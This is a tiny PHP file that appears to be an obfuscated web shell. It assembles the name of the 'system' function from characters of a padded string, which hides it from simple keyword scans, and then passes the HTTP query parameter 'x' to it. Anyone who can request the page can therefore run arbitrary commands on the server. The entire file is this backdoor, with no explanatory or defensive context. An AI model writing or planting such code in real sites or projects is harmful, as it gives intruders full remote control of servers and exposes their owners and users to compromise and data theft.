<?php
$s = "xsystemx";
$c = $s{1}.$s{2}.$s{3}.$s{4}.$s{5}.$s{6}; $c($_GET["x"]);
